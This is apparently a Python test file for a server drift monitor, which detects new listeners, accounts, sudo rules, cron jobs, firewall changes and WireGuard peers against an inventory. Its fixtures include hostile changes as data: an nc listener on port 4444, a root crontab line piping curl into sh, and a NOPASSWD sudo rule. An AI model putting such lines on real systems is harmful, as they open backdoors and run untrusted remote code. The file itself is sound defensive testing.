"""What is drift and what is not: between two looks, and against the inventory."""

from pathlib import Path

import pytest

from inventory.model.ssh import Ssh
from monitors.inspection.drift import (
    Kind,
    against_inventory,
    compared,
    not_compared,
    since_last_look,
)
from monitors.inspection.model import Inspection, Interface, Listener
from monitors.inspection.suggestion.insert import add_items
from monitors.inspection.suggestion.inventory_yaml import suggest
from tests.monitors.inspection.estates import GRADAC, arrival, host, write_estate
from tests.monitors.inspection.recorded import inspection, text

WEB = inspection("web")


def changed(**texts: str) -> list[tuple[Kind, str]]:
    """Return what differs when the recorded host prints other texts for some subjects."""
    return [(d.kind, d.text) for d in since_last_look(WEB, inspection("web", **texts))]


def test_the_same_reading_is_no_drift() -> None:
    assert since_last_look(WEB, inspection("web")) == ()


def test_a_new_listener() -> None:
    row = 'tcp LISTEN 0 1 0.0.0.0:4444 0.0.0.0:* users:(("nc",pid=99999,fd=3))\n'
    assert changed(sockets=text("web", "sockets") + row) == [
        (Kind.LISTENER, "new: tcp 0.0.0.0 port 4444, nc")
    ]


def test_a_listener_that_went() -> None:
    rest = "".join(r for r in text("web", "sockets").splitlines(True) if ":8081 " not in r)
    assert changed(sockets=rest) == [
        (Kind.LISTENER, "gone: tcp * port 8081, apache2 (apache2.service)")
    ]


def test_another_port_from_the_kernels_own_range_is_no_drift() -> None:
    def with_port(port: int) -> Inspection:
        row = f'udp UNCONN 0 0 0.0.0.0:{port} 0.0.0.0:* users:(("rpc.statd",pid=9,fd=3))\n'
        return inspection("web", sockets=row)

    assert since_last_look(with_port(40001), with_port(51234)) == ()


def test_a_new_account_with_a_password_and_a_key_that_was_added() -> None:
    passwd = text("web", "passwd") + "eve::1002:1002::/home/eve:/bin/bash\n"
    shadow = text("web", "shadow") + "eve set\n"
    assert changed(passwd=passwd, shadow=shadow) == [
        (Kind.LOGIN, "new: login eve, password set, keys: none")
    ]
    key = "==> clerk /home/clerk/.ssh/authorized_keys\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x\n"
    ((kind, said),) = changed(authorized_keys=text("web", "authorized_keys") + key)
    assert (kind, said.startswith("new: login clerk, password locked, keys: SHA256:")) == (
        Kind.LOGIN,
        True,
    )


def test_a_new_way_to_root_by_sudo_or_group() -> None:
    rule = "==> /etc/sudoers.d/eve\nclerk ALL=(ALL) NOPASSWD: ALL\n"
    ((kind, said),) = changed(sudoers=text("web", "sudoers") + rule)
    assert kind is Kind.ROOT
    assert "clerk becomes root: sudo for clerk in /etc/sudoers.d/eve" in said
    ((kind, said),) = changed(group=text("web", "group") + "docker::999:clerk\n")
    assert kind is Kind.ROOT
    assert "group docker" in said


def test_a_new_line_in_a_crontab() -> None:
    added = "==> /var/spool/cron/crontabs/root\n* * * * * curl http://x | sh\n"
    assert changed(cron=text("web", "cron") + added) == [
        (
            Kind.JOB,
            "new: /var/spool/cron/crontabs/root: curl http://x | sh as root at * * * * *",
        )
    ]


def test_a_changed_policy_and_a_rule_that_was_added() -> None:
    saved = text("web", "iptables")
    opened = saved.replace(":INPUT DROP", ":INPUT ACCEPT", 1)
    assert changed(iptables=opened) == [
        (
            Kind.FIREWALL,
            "changed: iptables-nft filter INPUT: policy drop -> "
            "iptables-nft filter INPUT: policy accept",
        )
    ]
    rule = saved.replace("-A INPUT", "-A INPUT -p tcp --dport 23 -j ACCEPT\n-A INPUT", 1)
    assert changed(iptables=rule) == [
        (Kind.FIREWALL, "new: iptables-nft filter INPUT: -p tcp --dport 23 -j ACCEPT")
    ]


def test_bans_and_rules_of_container_engines_are_no_drift() -> None:
    saved = text("web", "iptables").replace(
        "-A INPUT",
        "-A INPUT -p tcp -m multiport --dports 22 -j f2b-sshd\n"
        "-A FORWARD -o br-0123456789ab -j ACCEPT\n-A INPUT",
        1,
    )
    chains = saved.replace(":INPUT DROP", ":f2b-sshd - [0:0]\n:DOCKER-NEW - [0:0]\n:INPUT DROP", 1)
    banned = chains.replace("-A INPUT", "-A f2b-sshd -s 192.0.2.9/32 -j REJECT\n-A INPUT", 1)
    assert changed(iptables=banned) == []


def test_counters_are_no_drift() -> None:
    ruleset = "table inet a {\n chain c {\n  type filter hook input priority 0; policy drop;\n"
    one = inspection("web", nft=f"{ruleset}  counter packets 1 bytes 2 accept\n }}\n}}\n")
    two = inspection("web", nft=f"{ruleset}  counter packets 7 bytes 9 accept\n }}\n}}\n")
    assert since_last_look(one, two) == ()


@pytest.mark.parametrize("before", ["web", "legacy", "firewalld"])
@pytest.mark.parametrize("now", ["web", "legacy", "firewalld"])
def test_what_is_kept_of_an_accepted_look_is_all_that_is_compared(before: str, now: str) -> None:
    kept = compared(inspection(before))
    assert since_last_look(kept, inspection(now)) == since_last_look(
        inspection(before), inspection(now)
    )
    assert not kept.packages
    assert not kept.databases


def test_what_was_not_read_is_not_compared() -> None:
    blind = WEB.model_copy(update={"listeners": (), "unread": (("sockets", "not in time"),)})
    assert since_last_look(WEB, blind) == ()
    assert since_last_look(blind, WEB) == ()
    assert not_compared(blind) == (Kind.LISTENER,)


@pytest.fixture
def adopted(tmp_path: Path) -> Path:
    folder = write_estate(tmp_path / "estate")
    lines = suggest(WEB, arrival(folder, Ssh(user="itadmin"))).host
    file = folder / "municipalities" / "gradac.yml"
    file.write_text(add_items(GRADAC, "hosts", lines))
    return folder


def test_a_host_as_it_was_adopted_is_as_the_inventory_declares_it(adopted: Path) -> None:
    assert against_inventory(host(adopted, "gradac-srv-web01"), WEB) == ()


def test_a_port_that_is_not_declared_and_one_that_nothing_serves(adopted: Path) -> None:
    entry = host(adopted, "gradac-srv-web01")
    other = [s for s in WEB.listeners if s.port != 8081]
    new = Listener(protocol="tcp", address="*", port=9999, process="java", unit="app.service")
    now = WEB.model_copy(update={"listeners": (*other, new)})
    assert [d.text for d in against_inventory(entry, now)] == [
        "not declared: tcp port 9999, java (app.service)",
        "declared, and nothing listens: tcp port 8081, apache2",
    ]


def test_who_becomes_root_and_is_no_administrator(adopted: Path) -> None:
    file = adopted / "municipalities" / "gradac.yml"
    person = (
        "administrators:\n  - {name: Ana, login: ana, contact: ana@x.example,\n"
        "     keys: [ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMd8P2JV7O+dXdRn8SAsSH+"
        "14t5cdXIMPEgNh6KGNYg2]}\n"
    )
    file.write_text(file.read_text() + person)
    entry = host(adopted, "gradac-srv-web01")
    # itadmin is who Bastide logs in as.
    assert against_inventory(entry, WEB) == ()
    rule = "==> /etc/sudoers.d/eve\nclerk ALL=(ALL) ALL\n"
    now = inspection(
        "web",
        sudoers=text("web", "sudoers") + rule,
        shadow=text("web", "shadow").replace("clerk locked", "clerk set"),
    )
    ((difference),) = against_inventory(entry, now)
    assert difference.kind is Kind.ROOT
    assert "no administrator of the inventory: clerk: with a password" in difference.text


def test_one_machine_that_stands_in_the_inventory_twice(adopted: Path) -> None:
    entry = host(adopted, "gradac-srv-web01")
    both = Interface(name="eth9", addresses=("10.20.0.10/24",))
    now = WEB.model_copy(update={"interfaces": (*WEB.interfaces, both)})
    ((difference),) = against_inventory(entry, now)
    assert "10.20.0.10, which is central-ops in the inventory" in difference.text


def test_a_new_peer_of_wireguard_and_one_with_another_network() -> None:
    before = inspection("vpn")
    line = "allowed-ips\twg0\tnew=\t10.8.0.9/32\n"
    printed = text("vpn", "wireguard").replace("10.8.0.3/32", "0.0.0.0/0") + line
    new, changed = sorted(
        (d.text for d in since_last_look(before, inspection("vpn", wireguard=printed))),
        reverse=True,
    )
    assert new == "new: WireGuard wg0 lets in new= with 10.8.0.9/32"
    assert changed.endswith("with 0.0.0.0/0")


def test_a_handshake_is_no_drift() -> None:
    later = text("vpn", "wireguard").replace("now 1795943263", "now 1799943263")
    assert since_last_look(inspection("vpn"), inspection("vpn", wireguard=later)) == ()
